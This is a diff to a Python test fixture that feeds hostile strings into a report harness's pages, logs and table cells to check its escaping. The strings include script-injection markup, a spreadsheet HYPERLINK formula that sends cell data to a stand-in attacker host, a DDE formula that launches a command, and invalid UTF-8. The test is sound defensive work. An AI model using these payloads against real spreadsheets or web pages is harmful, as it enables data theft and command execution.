@@ -24,7 +24,26 @@ HOSTILE = (
     "\u202etxet desrever\u2066",
     "x" * 40,
     "</style><style>*{display:none}</style>",
+    "</script><img src=x onerror=window.hit=1>",
 )
+"""In names too, which become paths, and in tags."""
+NO_UTF_8 = b"\xff\xc3(\xed\xa0\x80 <img src=x onerror=window.hit=1>"
+VALUES = {
+    "a formula": '=HYPERLINK("http://evil.invalid/?"&A1,"x")',
+    "a formula with a pipe": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "a cell of 10 MB": "<script>window.hit=1</script>".ljust(10 * 2**20, "x"),
+    "no UTF-8": NO_UTF_8.decode(errors="surrogateescape"),
+}
+"""In values alone: of rows, keys, notes and reasons."""
+READ = dict(zip(HOSTILE, HOSTILE, strict=True)) | {
+    "\u202etxet desrever\u2066": r"\u202etxet desrever\u2066",
+    **{text: text for name, text in VALUES.items() if "formula" in name},
+    VALUES["a cell of 10 MB"]: "<script>window.hit=1</script>".ljust(120, "x") + "… (10,485,640 more characters)",
+    VALUES["no UTF-8"]: r"\udcff\udcc3(\udced\udca0\udc80 <img src=x onerror=window.hit=1>",
+}
+"""What a reader sees of each, as a cell of a row. Written by hand: the harness's own escaping is what is tested."""
+LOGGED = "\ufffd\ufffd(\ufffd\ufffd\ufffd <img src=x onerror=window.hit=1>"
+"""What a reader sees of NO_UTF_8 in a log."""
 
 
 def made(reports: Path) -> list[Run]:
@@ -37,14 +56,8 @@ def made(reports: Path) -> list[Run]:
     ]
     for word in (Word.UNKNOWN, Word.VOID, Word.ERROR):
         open_ = sample.verdict(word=word, findings=(), as_expected=word is Word.VOID, reasons=("the time was up",))
-        runs.append(kept(reports, f"a run that is {word}", open_, f"shapes/{word}.py"))
-    for number, text in enumerate(HOSTILE):
-        finding = replace(sample.duplicated(), key={text: text}, note=text, expected=({text: text},))
-        stake = sample.repetition(sink=text, point=text, note=text)
-        told = sample.verdict(
-            findings=(finding,), stakes=(stake,), untried=((text, text),), reasons=(text,), notes=(text,)
-        )
-        runs.append(kept(reports, f"{number} {text}", told, f"hostile/{text}.py", tags=(text,), why=text))
+        runs.append(kept(reports, f"a run that is {word}", open_, f"shapes/{word}.py", raw=NO_UTF_8))
+    runs += hostile(reports).values()
     torn = kept(reports, "a run whose verdict is gone", sample.held(), "transactions/torn.py")
     RunFolder(torn.folder or reports).verdict_json.unlink()
     summary.write(reports, runs)
@@ -57,14 +70,36 @@ def made(reports: Path) -> list[Run]:
     return runs
 
 
-def kept(reports: Path, name: str, verdict: Verdict, entry: str, **changes: Any) -> Run:
-    """A sealed run folder with its page."""
+def hostile(reports: Path) -> dict[str, Run]:
+    """By its payload a run with that payload in every text that data can reach."""
+    out = {}
+    for number, text in enumerate(HOSTILE):
+        finding = replace(sample.duplicated(), key={text: text}, note=text, expected=({text: text},))
+        stake = sample.repetition(sink=text, point=text, note=text)
+        told = sample.verdict(
+            findings=(finding,), stakes=(stake,), untried=((text, text),), reasons=(text,), notes=(text,)
+        )
+        out[text] = kept(reports, f"{number} {text}", told, f"hostile/{text}.py", tags=(text,), why=text)
+    for name, text in VALUES.items():
+        row = sample.row() | {"account": text}
+        finding = replace(sample.duplicated(), key={"account": text}, note=text, expected=(row,), found=(row,))
+        told = sample.verdict(findings=(finding,), reasons=(text,), notes=(text,))
+        out[text] = kept(reports, name, told, "hostile/values.py", raw=NO_UTF_8)
+    return out
+
+
+def kept(reports: Path, name: str, verdict: Verdict, entry: str, *, raw: bytes = b"", **changes: Any) -> Run:
+    """A sealed run folder with its page; `raw` is in its log, and in a comment of its scenario."""
     asked = sample.scenario(name=name, pipeline=Pipeline(entry=f"pipelines/{entry}"), **changes)
     folder = sample.stored(reports, verdict, asked=asked, run_id=f"r{len(list(reports.glob('*/2*')))}")
     begun = [("set up", 0.2), ("warm-up", 0.9), ("feeding", 9.5), ("draining", 16.0), ("judging", 29.0)]
     with folder.journal.open("a", encoding="utf-8") as out:
         for phase, at in begun:
             out.write(json.dumps({"what": "phase", "name": phase, "at_s": at}) + "\n")
+    if raw:
+        (folder.logs / "driver-1.log").write_bytes(raw)
+        with folder.scenario_yaml.open("ab") as file:
+            file.write(b"# " + raw)
     sealed.write(folder.path)
     render.write(folder.path)
     return Run.read(folder.path)
